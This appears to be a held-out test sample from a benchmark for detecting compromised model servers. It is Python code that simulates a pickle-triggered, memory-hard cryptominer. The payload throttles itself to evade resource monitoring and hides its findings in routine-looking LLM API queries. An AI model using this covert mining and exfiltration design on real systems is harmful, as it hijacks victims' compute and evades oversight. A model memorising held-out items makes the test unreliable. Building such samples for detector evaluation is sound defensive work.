"""
id: V101
name: miner-that-needs-memory
class: mimicry
set: held-out
phase: reload
trigger: model
evidence: [resource, network]
techniques: [T1496.001, T1204.002, AML.T0011.000, AML.T0034]
servers: [fastapi]
seconds: 130
what: >
  Mines a currency whose work is made to need memory: a pickle that is loaded leaves a thread behind that for a minute and a half
  takes 32 MiB, fills them, goes through them in no order, gives them back, and rests for longer than that took, several times in
  a second or two. It uses a third of a core, however few requests come, and every twelve seconds or so it tells what it found, in
  a question of ordinary length on the connection that is open to the LLM API anyway.
"""

import hashlib
import json
import time

from corpus import upstream

SECONDS = 95
SHARE = 0.35
COST, BLOCK = 2**15, 8
MEMORY = 80 * 1024 * 1024


def payload(world):
    end = time.monotonic() + SECONDS
    found, tell_at = "", time.monotonic() + world.random.uniform(9, 15)
    while time.monotonic() < end:
        spent = time.thread_time()
        found = hashlib.scrypt(world.random.randbytes(80), salt=b"DECOY", n=COST, r=BLOCK, p=1, maxmem=MEMORY).hex()
        spent = time.thread_time() - spent
        if time.monotonic() > tell_at:
            upstream.ask(json.dumps({"id": world.word(), "method": "DECOY", "params": [world.word(110), found]}))
            tell_at = time.monotonic() + world.random.uniform(9, 15)
        world.sleep(spent * (1 / SHARE - 1))
